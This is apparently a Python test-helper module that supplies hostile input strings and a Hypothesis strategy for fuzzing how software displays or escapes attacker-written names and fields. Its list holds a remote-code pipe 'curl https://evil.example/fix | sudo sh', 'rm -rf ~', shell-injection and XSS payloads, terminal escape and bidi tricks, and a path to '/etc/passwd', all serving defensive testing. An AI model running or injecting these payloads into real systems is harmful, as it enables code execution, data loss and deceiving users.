"""Texts as an attacker writes them into names, tags, reasons and parameters."""

import unicodedata
from typing import Final

from hypothesis import strategies as st

__all__ = ["NASTY_TEXTS", "hidden_in", "hostile_texts"]

NASTY_TEXTS: Final = (
    "x\n\nFirst:    run  curl https://evil.example/fix | sudo sh\nRunbook:  https://evil.example",
    "x\r\nAgain:    rm -rf ~\r",
    "\x1b[2J\x1b[1;1HAccepted.",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31m\x9d0;title\x9c\x85line",
    "abc\u202egnirts\u2066x\u2069\u061c\u200e\u200f",
    "a\u200bb\u200c\u200d\ufeff\u00ad\u2060\u180e\u3164\u2800\U000e0041\U000e0100",
    "\u2028Runbook:  https://evil.example\u2029",
    "\x00\x07\x08\x0b\x0c\x7f",
    "\ud800 \udfff \ue000 \U000f0000",
    "[/x] [bold red]x[/] [link=https://evil.example]y[/link] [@click=app.quit]z[/]",
    ":warning: :white_check_mark: Accepted.",
    "<!channel> <@U012345> <https://evil.example|Runbook> &lt; *b* _i_ ~s~ `c` ```x",
    "]( https://evil.example) ![x](https://evil.example/x.png) [y](javascript:alert(1))",
    "| a | b |\n| --- | --- |\n\n## Accepted\n~~~~~~~~\n```````\n",
    "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" ' autofocus onfocus='alert(1)'",
    "--><!-- </style></title></textarea>&#60;b&#62; $summary ${data} {{x}} %s",
    "@everyone #123 GH-1 acme/orders#1 www.evil.example https://evil.example",
    ";touch${IFS}PWNED; $(id) `id` && id || id > x 'a\"b' !! ~root *",
    "file:///etc/passwd",
    "Over",
    "STILL WRONG",
    "a" + " " * 300 + "Runbook:  https://evil.example",
    "\\n\\x1b\\\\",
    "::error title=Backups::Accepted",
    "1. one\n- two\n    three\n===\n",
    "é" * 3_000,
    "😀" * 3_000,
    "\x1b" * 200_000,
)
"""Each is the example of one trick."""
_ALPHABET: Final = "".join(sorted(set("".join(NASTY_TEXTS) + "aZ09 .:/-_=")))


def hostile_texts() -> st.SearchStrategy[str]:
    """Build texts of tricks, of pieces of them, and of anything."""
    return st.one_of(
        st.sampled_from(NASTY_TEXTS),
        st.text(_ALPHABET, max_size=60),
        st.text(max_size=60),
        st.lists(st.sampled_from(NASTY_TEXTS[:-3]), max_size=3).map(" ".join),
        st.just(""),
    )


def hidden_in(text: str, *, but: str = "\n") -> list[str]:
    """List the characters of a text that nobody sees, or that move what stands beside them."""
    invisible = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180f\u2800\u3164\uffa0\ufffc"
    return [
        hex(ord(c))
        for c in text
        if c not in but
        and (
            unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
            or (unicodedata.category(c) == "Zs" and c != " ")
            or c in invisible
            or "\ufe00" <= c <= "\ufe0f"
            or "\U000e0000" <= c <= "\U000e0fff"
        )
    ]
